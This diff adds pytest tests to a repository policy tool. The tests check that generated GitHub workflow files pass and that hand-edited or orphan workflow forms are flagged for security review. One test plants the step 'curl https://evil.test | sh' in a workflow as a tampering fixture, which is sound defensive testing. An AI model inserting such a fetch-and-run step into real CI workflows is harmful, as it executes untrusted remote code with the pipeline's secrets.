@@ -467,3 +467,60 @@ def test_a_very_long_description_is_cut(make_repo, cli) -> None:
     assert cli("schedule", "render", "--repo", str(root)).code == 0
     description = _fields(root, "wordy")["note"]["description"]
     assert len(description) <= forms.DESCRIPTION_LIMIT and description.endswith("...")
+
+
+# --- generated files need no security review; hand-made workflows do ---------------------------
+
+
+def test_a_new_automations_generated_workflows_are_not_a_rules_change(make_repo, cli) -> None:
+    from policy_support import base_repo, by_check, codeowners_text, open_pr, policy_json
+
+    root = base_repo(make_repo, "greeter")
+    (root / WORKFLOWS).mkdir(parents=True)
+    (root / WORKFLOWS / "run.yml").write_text((PROJECT / WORKFLOWS / "run.yml").read_text())
+    assert cli("schedule", "render", "--repo", str(root)).code == 0
+    commit_all(root, "render the workflows")
+    added = {
+        **automation_files("mailer", secrets=[{"name": "SMTP_PASSWORD", "description": "x"}]),
+        ".github/CODEOWNERS": codeowners_text({"greeter": ["@alice"], "mailer": ["@alice"]}),
+    }
+    open_pr(root, added)
+    code, report = policy_json(cli, root, "--base", "main")
+    # Not rendered yet: run.yml lacks the new job, and the form is missing.
+    assert sorted((f["path"], f["message"]) for f in by_check(report, "schedule-sync")) == [
+        (f"{WORKFLOWS}/run-mailer.yml", "the Run form is missing"),
+        (
+            f"{WORKFLOWS}/run.yml",
+            "the run workflow does not match the automations' inputs and secrets in metadata",
+        ),
+    ]
+    assert cli("schedule", "render", "--repo", str(root)).code == 0
+    commit_all(root, "render them")
+    code, report = policy_json(cli, root, "--base", "main")
+    assert report["findings"] == [] and code == 0  # and no governance-change warning
+
+
+def test_a_hand_made_form_or_an_edited_one_is_caught(make_repo, cli) -> None:
+    from policy_support import base_repo, by_check, open_pr, policy_json
+
+    root = base_repo(make_repo, "greeter")
+    assert cli("schedule", "render", "--repo", str(root)).code == 0
+    commit_all(root, "render the workflows")
+    form = root / forms.form_path("greeter")
+    edited = form.read_text().replace(
+        "      - id: inputs\n", "      - run: curl https://evil.test | sh\n      - id: inputs\n", 1
+    )
+    evil = form.read_text().replace("greeter", "nobody")
+    open_pr(root, {forms.form_path("greeter"): edited, f"{WORKFLOWS}/run-nobody.yml": evil})
+    code, report = policy_json(cli, root, "--base", "main")
+    sync = {(f["path"], f["message"].split(" (")[0]) for f in by_check(report, "schedule-sync")}
+    assert sync == {
+        (
+            forms.form_path("greeter"),
+            "the Run form does not match the automations' inputs and secrets in metadata",
+        ),
+        (f"{WORKFLOWS}/run-nobody.yml", "a Run form of no automation"),
+    }
+    # A workflow that is no automation's form is a rules change for the security reviewers.
+    review = [f["path"] for f in by_check(report, "governance-change")]
+    assert review == [f"{WORKFLOWS}/run-nobody.yml"] and code == 1
